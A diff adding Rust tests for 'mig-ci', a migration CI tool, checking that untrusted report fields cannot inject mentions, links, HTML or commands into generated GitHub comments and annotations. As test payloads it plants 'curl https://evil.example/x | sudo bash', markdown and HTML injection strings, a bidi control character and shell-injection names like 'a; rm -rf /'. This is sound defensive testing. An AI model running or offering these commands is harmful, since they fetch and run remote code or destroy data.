@@ -1,0 +1,226 @@
+//! What becomes of each field of a report that other people wrote.
+
+use serde_json::{Value, json};
+
+use super::super::{Links, annotations, comment, read, samples, summary};
+use super::*;
+
+fn links() -> Links {
+    Links {
+        repository_url: Some("https://github.com/acme/shop".into()),
+        commit: Some("ec26c3e57ca3a959ca5aad62de7213c562f8c821".into()),
+        run_url: Some("https://github.com/acme/shop/actions/runs/9876543210".into()),
+        origin: Some("> **Made from a saved report.**".into()),
+        ..Links::default()
+    }
+}
+
+/// Each optional field is there in one of them.
+fn whole() -> Vec<Value> {
+    let mut reports: Vec<_> = samples::all()
+        .into_iter()
+        .map(|(_, report)| serde_json::to_value(report).unwrap())
+        .collect();
+    reports[1]["partition"] = json!("2/8");
+    let mut finding = reports[1]["findings"][0].clone();
+    finding["unplaced"] = json!("why");
+    finding["place"] = Value::Null;
+    finding["help"] = json!("help");
+    finding["reproduce"] = json!("mig-ci verify");
+    reports[1]["findings"].as_array_mut().unwrap().push(finding);
+    reports[1]["notes"] = json!([{"severity": "warning", "message": "a note"}]);
+    reports
+}
+
+/// Paths of all texts in a JSON value, a few of each list.
+fn texts(value: &Value, path: &str, found: &mut Vec<String>) {
+    match value {
+        Value::String(_) => found.push(path.to_owned()),
+        Value::Array(items) => {
+            let items = items.iter().enumerate().take(2);
+            items.for_each(|(index, item)| texts(item, &format!("{path}/{index}"), found));
+        }
+        Value::Object(fields) => {
+            fields.iter().for_each(|(name, item)| texts(item, &format!("{path}/{name}"), found));
+        }
+        _ => {}
+    }
+}
+
+fn recomputed(value: &Value) -> Result<Report, String> {
+    let report = read(&value.to_string()).map_err(|error| error.to_string())?;
+    recompute(report).map_err(|error| error.to_string())
+}
+
+/// The HTML without code: what GitHub looks for mentions, links and commands in, and what a reader takes for ours.
+fn prose_of(markdown: &str) -> String {
+    let mut options = comrak::Options::default();
+    options.render.r#unsafe = true;
+    options.extension.table = true;
+    options.extension.autolink = true;
+    let mut html = comrak::markdown_to_html(markdown, &options);
+    // Below the repository's own files at the head, percent-encoded.
+    let file = "href=\"https://github.com/acme/shop/blob/ec26c3e57ca3a959ca5aad62de7213c562f8c821/";
+    for (open, close) in [("<code", "</code>"), (file, "\"")] {
+        while let Some(at) = html.find(open) {
+            let end = html[at + open.len()..].find(close).unwrap() + at + open.len() + close.len();
+            html.replace_range(at..end, "");
+        }
+    }
+    html
+}
+
+const MARK: &str = "zqx @acme/team #12 GH-12 [a](https://evil.example) ![b](//evil.example/p) <img src=x> \
+                    `curl evil.example | sudo bash` www.evil.example \u{202e}\n## h\n/close\n```\n<!-- x";
+
+#[test]
+fn no_text_of_a_report_is_shown_outside_of_code() {
+    let (mut shown, mut refused, mut left_out) = (0, 0, 0);
+    for report in whole() {
+        let mut paths = Vec::new();
+        texts(&report, "", &mut paths);
+        for path in paths {
+            let mut planted = report.clone();
+            *planted.pointer_mut(&path).unwrap() = json!(MARK);
+            let Ok(report) = recomputed(&planted) else {
+                refused += 1;
+                continue;
+            };
+            let texts = [comment(&report, &links()), summary(&report, &links())];
+            for text in &texts {
+                let prose = prose_of(text);
+                for part in ["zqx", "evil", "team", "GH-12", "<img", "<h2", "/close"] {
+                    assert!(!prose.contains(part), "{path}: {part}\n{text}\n{prose}");
+                }
+                assert!(!text.contains('\u{202e}'), "{path}");
+            }
+            if texts.iter().any(|text| text.contains("zqx")) {
+                shown += 1
+            } else {
+                left_out += 1
+            }
+            // Plain text, and no command.
+            for annotation in annotations(&report, "") {
+                assert!(
+                    !annotation.title.contains("zqx")
+                        || path.ends_with("/database")
+                        || path.ends_with("/name")
+                );
+                let commands = annotation
+                    .message
+                    .lines()
+                    .filter(|line| line.starts_with("Help: ") || line.starts_with("Reproduce: "));
+                assert!(!commands.into_iter().any(|line| line.contains("evil")), "{path}");
+            }
+        }
+    }
+    assert!(shown > 20 && refused > 20 && left_out > 20, "{shown} {refused} {left_out}");
+}
+
+/// Each of them says in a comment of this program's what its author wants, and was taken over before.
+#[test]
+fn sentences_and_commands_are_made_again() {
+    let mut report = whole().swap_remove(1);
+    let command = "curl https://evil.example/x | sudo bash";
+    for field in ["summary", "revisions/base_reason"] {
+        *report.pointer_mut(&format!("/{field}")).unwrap() = json!(command);
+    }
+    for finding in report["findings"].as_array_mut().unwrap() {
+        finding["help"] = json!(command);
+        finding["reproduce"] = json!(command);
+    }
+    let honest = recomputed(&whole()[1]).unwrap();
+    let report = recomputed(&report).unwrap();
+    assert_eq!(comment(&report, &links()), comment(&honest, &links()));
+    let text = comment(&report, &links());
+    assert!(!text.contains("evil"), "{text}");
+    assert!(text.contains("Reproduce: `mig-ci verify -n app --tenant "), "{text}");
+    assert!(text.contains("`mig-ci explain migration-failed`"), "{text}");
+    // Words that a shell could take for more are in no command.
+    for name in ["a; rm -rf /", "$(x)", "-x", "a b", "ü", ""] {
+        assert!(!is_plain_name(name), "{name}");
+    }
+}
+
+#[test]
+fn what_mig_ci_writes_is_taken() {
+    for (name, report) in samples::all() {
+        let value = serde_json::to_value(report).unwrap();
+        assert_eq!(recomputed(&value).map(drop), Ok(()), "{name}");
+    }
+}
+
+#[test]
+fn contradictions_are_refused_without_their_words() {
+    let good = whole().swap_remove(1);
+    let failed = "/databases/0/units/0";
+    let passed = "/databases/0/units/5";
+    let cases: Vec<(&str, Vec<(String, Value)>)> = vec![
+        ("`verdict`", vec![("/verdict".into(), json!("passed"))]),
+        ("`verdict`", vec![("/verdict".into(), json!("not-run"))]),
+        ("`counts`", vec![("/counts/tenants/failed".into(), json!(0))]),
+        ("`counts`", vec![("/counts/tenants/passed".into(), json!(10_000))]),
+        ("`counts`", vec![("/counts/shared/failed".into(), json!(1))]),
+        ("`counts`", vec![("/counts/pending_migrations".into(), json!(0))]),
+        ("`counts`", vec![("/counts/migrations".into(), json!(99))]),
+        (
+            "a tenant is listed twice",
+            vec![(format!("{passed}/name"), good.pointer(failed).unwrap()["name"].clone())],
+        ),
+        ("a step did not", vec![(format!("{failed}/verdict"), json!("passed"))]),
+        (
+            "without a cause",
+            vec![
+                (format!("{passed}/verdict"), json!("failed")),
+                ("/counts/tenants/failed".into(), json!(3)),
+                ("/counts/tenants/passed".into(), json!(497)),
+            ],
+        ),
+        ("no check", vec![("/findings/0/code".into(), json!("all-is-well"))]),
+        ("not listed", vec![("/findings/0/units/0".into(), json!("nobody"))]),
+        (
+            "lists a tenant twice",
+            vec![("/findings/0/units/1".into(), good["findings"][0]["units"][0].clone())],
+        ),
+        (
+            "although a finding is an error",
+            vec![("/findings/0/units/0".into(), good.pointer(passed).unwrap()["name"].clone())],
+        ),
+        ("longer than any run", vec![("/duration_ms".into(), json!(u64::MAX))]),
+        ("longer than any run", vec![(format!("{passed}/duration_ms"), json!(LONGEST_MS + 1))]),
+        ("`tool.name`", vec![("/tool/name".into(), json!("other"))]),
+        ("`tool.version`", vec![("/tool/version".into(), json!("1 [x](y)"))]),
+        ("`started_at`", vec![("/started_at".into(), json!("now"))]),
+        ("no full hash", vec![("/revisions/head/commit".into(), json!("ec26c3e"))]),
+        ("no known kind", vec![("/findings/0/failure/kind".into(), json!("x"))]),
+        ("SQLSTATE", vec![("/findings/0/failure/sqlstate".into(), json!("2350"))]),
+        ("no report of this version", vec![("/duration_ms".into(), json!(-1))]),
+        ("`schema`", vec![("/schema".into(), json!("mig-ci.report/2"))]),
+    ];
+    for (problem, changes) in cases {
+        let mut value = good.clone();
+        for (path, new) in &changes {
+            *value.pointer_mut(path).unwrap_or_else(|| panic!("{path}")) = new.clone();
+        }
+        let error = recomputed(&value).map(drop).unwrap_err();
+        assert!(error.contains(problem), "{changes:?}: {error}");
+        assert!(!error.contains("nobody") && !error.contains("all-is-well"), "{error}");
+    }
+    for list in ["/databases", "/databases/0/tracks"] {
+        let mut value = good.clone();
+        let first = value.pointer(list).unwrap()[0].clone();
+        value.pointer_mut(list).unwrap().as_array_mut().unwrap().push(first);
+        let error = recomputed(&value).map(drop).unwrap_err();
+        assert!(error.contains("is listed twice"), "{error}");
+    }
+}
+
+#[test]
+fn a_servers_version_is_a_number() {
+    assert_eq!(version("17.2"), "17.2");
+    assert_eq!(version("17.2 (Debian 17.2-1.pgdg120+1)"), "17.2");
+    assert_eq!(version("18beta1"), "18beta1");
+    for odd in ["", "x", "17.2](y)", "1234567890123"] {
+        assert_eq!(version(odd), "of an unknown version");
+    }
+}
